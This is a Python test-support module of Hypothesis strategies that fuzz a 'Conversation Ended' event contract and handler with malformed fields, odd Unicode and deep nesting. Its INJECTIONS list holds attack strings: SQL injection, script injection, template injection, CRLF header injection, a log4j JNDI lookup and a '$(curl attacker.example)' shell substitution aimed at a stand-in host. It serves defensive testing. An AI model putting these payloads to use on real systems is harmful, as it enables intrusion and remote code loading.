"""Hypothesis strategies for fuzzing the ``Conversation Ended`` contract and the handler.

Events start from the realistic builders in :mod:`tests.support.events` and are then broken in
the ways producers and attackers break them: fields dropped or added, wrong JSON types, numbers
sent as strings, huge strings, deep nesting, odd Unicode (lone surrogates, right-to-left
overrides, combining marks, NUL) and text that looks like an injection (SQL, HTML/script,
templates, CRLF header injection, ``${jndi:...}``).
"""

from __future__ import annotations

import copy
import json
from typing import Any, Final

from hypothesis import strategies as st

from tests.support.events import conversation_detail, conversation_ended

#: Text that looks like an injection into SQL, HTML, templates, headers, shells or log4j.
INJECTIONS: Final = (
    "'; DROP TABLE conversations; --",
    '" OR "1"="1',
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "</p><b>forged</b><p>",
    "<a href=\"javascript:alert('x')\">click</a>",
    "{{7*7}}",
    "{{ config.__class__.__init__.__globals__ }}",
    "{% for x in range(9) %}{% endfor %}",
    "${7*7}",
    "${jndi:ldap://attacker.example/a}",
    "#{7*7}",
    "value\r\nX-Injected: yes",
    "value\r\n\r\n<html>smuggled</html>",
    "%0d%0aSet-Cookie:%20session=stolen",
    "../../../../etc/passwd",
    "$(curl attacker.example)",
    "`id`",
    '{"$gt": ""}',
)

#: Unicode that trips up normalisers, loggers, terminals and JSON encoders.
ODD_UNICODE: Final = (
    "\u202eevil\u202c",  # right-to-left override
    "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627",  # Hebrew and Arabic (RTL)
    "Rene\u0301",  # combining acute accent
    "Z\u0351\u0360\u0334a\u0352l\u0353g\u0354o",  # stacked combining marks
    "a\x00b",  # NUL
    "\x1b[31mred\x1b[0m",  # terminal escape
    "\x85\u2028\u2029",  # NEL, line and paragraph separators
    "\ufeffBOM",
    "zero\u200bwidth\u200djoiner",
    "\ud800",  # lone high surrogate
    "\udfff",  # lone low surrogate
    "x\ud83d",  # half an emoji
    "\U0001f600\U0001f469\u200d\U0001f469\u200d\U0001f467",
    "\U0010ffff\ufffe\uffff",
    "\u0130\u00df\ufb01",  # case-mapping oddities
    "line\r\nbreak\ttab",
)

#: Any character at all, lone surrogates and controls included.
any_text = st.text(st.characters(), max_size=24)
tricky_text = (
    st.sampled_from(INJECTIONS + ODD_UNICODE)
    | any_text
    | st.lists(st.sampled_from(INJECTIONS + ODD_UNICODE), min_size=2, max_size=4).map("".join)
)

json_scalars = (
    st.none()
    | st.booleans()
    | st.integers(-(2**70), 2**70)
    | st.floats(allow_nan=True, allow_infinity=True)
    | tricky_text
)


def json_values(max_leaves: int = 12) -> st.SearchStrategy[Any]:
    """Any JSON-like value (and NaN/infinity, which JSON itself cannot carry)."""
    return st.recursive(
        json_scalars,
        lambda inner: st.lists(inner, max_size=4) | st.dictionaries(tricky_text, inner, max_size=4),
        max_leaves=max_leaves,
    )


#: JSON state that is valid: strings without lone surrogates, finite numbers, shallow, small.
clean_text = st.text(st.characters(exclude_categories=["Cs"]), max_size=24) | st.sampled_from(
    tuple(s for s in INJECTIONS + ODD_UNICODE if not any(0xD800 <= ord(c) <= 0xDFFF for c in s))
)
valid_state = st.dictionaries(
    clean_text,
    st.recursive(
        st.none()
        | st.booleans()
        | st.integers(-(2**53), 2**53)
        | st.floats(allow_nan=False, allow_infinity=False)
        | clean_text,
        lambda inner: st.lists(inner, max_size=4) | st.dictionaries(clean_text, inner, max_size=4),
        max_leaves=16,
    ),
    max_size=8,
)


def nested(depth: int, leaf: Any = "deep") -> dict[str, Any]:
    state: dict[str, Any] = {"leaf": leaf}
    for _ in range(depth):
        state = {"level": state}
    return state


#: Every field of ``detail`` (the contract's), and which of them hold text.
DETAIL_FIELDS: Final = tuple(conversation_detail())
TEXT_FIELDS: Final = (
    "conversation_id",
    "agent_id",
    "ended_reason_raw",
    "caller",
    "callee",
    "customer_email",
    "started_at",
    "ended_at",
    "channel",
    "direction",
    "environment",
    "ended_reason",
    "schema_version",
)
ENVELOPE_FIELDS: Final = ("version", "id", "detail-type", "source", "account", "time", "region", "resources")


@st.composite
def _mutation(draw: st.DrawFn, event: dict[str, Any]) -> None:
    """Break ``event`` in place in one way."""
    detail: Any = event.get("detail")
    kind = draw(
        st.sampled_from(
            [
                "drop",
                "extra",
                "wrong_type",
                "number_as_string",
                "huge_string",
                "tricky_text",
                "state",
                "deep_state",
                "envelope",
            ]
        )
    )
    if not isinstance(detail, dict):
        kind = "envelope"
    if kind == "drop":
        detail.pop(draw(st.sampled_from(DETAIL_FIELDS)), None)
    elif kind == "extra":
        name = draw(st.from_regex(r"[a-z][a-z_]{0,19}", fullmatch=True).filter(lambda n: n not in DETAIL_FIELDS))
        detail[name] = draw(json_values())
    elif kind == "wrong_type":
        detail[draw(st.sampled_from(DETAIL_FIELDS))] = draw(json_values())
    elif kind == "number_as_string":
        field = draw(st.sampled_from(["duration_seconds", "started_at", "ended_at"]))
        detail[field] = draw(
            st.sampled_from(["312", "312.5", "1e3", " 12 ", "NaN", "Infinity", "-0", "0x10", "1700000000"])
            | st.integers(0, 2**40)
            | st.integers(0, 2**40).map(str)
            | st.booleans()
        )
    elif kind == "huge_string":
        field = draw(st.sampled_from([*TEXT_FIELDS, "state"]))
        size = draw(st.sampled_from([2_049, 70_000, 210_000]))
        text = (draw(st.sampled_from(INJECTIONS + ODD_UNICODE)) * size)[:size]
        if field == "state":
            detail["state"] = {"blob": text}
        else:
            detail[field] = text
    elif kind == "tricky_text":
        detail[draw(st.sampled_from(TEXT_FIELDS))] = draw(tricky_text)
    elif kind == "state":
        detail["state"] = draw(json_values() | st.dictionaries(tricky_text, json_values(), max_size=6))
    elif kind == "deep_state":
        detail["state"] = nested(draw(st.integers(20, 400)), draw(json_scalars))
    else:
        envelope_kind = draw(st.sampled_from(["field", "drop", "detail", "detail_type"]))
        if envelope_kind == "field":
            event[draw(st.sampled_from(ENVELOPE_FIELDS))] = draw(json_values())
        elif envelope_kind == "drop":
            event.pop(draw(st.sampled_from([*ENVELOPE_FIELDS, "detail"])), None)
        elif envelope_kind == "detail":
            event["detail"] = draw(json_values())
        else:
            event["detail-type"] = draw(
                st.sampled_from(["conversation ended", "Conversation Ended ", "Conversation Started", ""]) | tricky_text
            )


@st.composite
def broken_events(draw: st.DrawFn) -> Any:
    """A realistic event broken in one to three ways; sometimes not an object at all."""
    shape = draw(st.integers(0, 19))
    if shape == 0:  # not even an object: what a misconfigured target or a direct invoke may send
        return draw(json_values() | st.just(json.dumps(conversation_ended())) | tricky_text)
    event = copy.deepcopy(conversation_ended())
    for _ in range(draw(st.integers(1, 3))):
        draw(_mutation(event))
    return event


def strings_in(value: Any) -> list[str]:
    """Every string in a JSON value, keys included."""
    if isinstance(value, str):
        return [value]
    if isinstance(value, list):
        return [s for item in value for s in strings_in(item)]
    if isinstance(value, dict):
        return [s for key, item in value.items() for s in (str(key), *strings_in(item))]
    return []
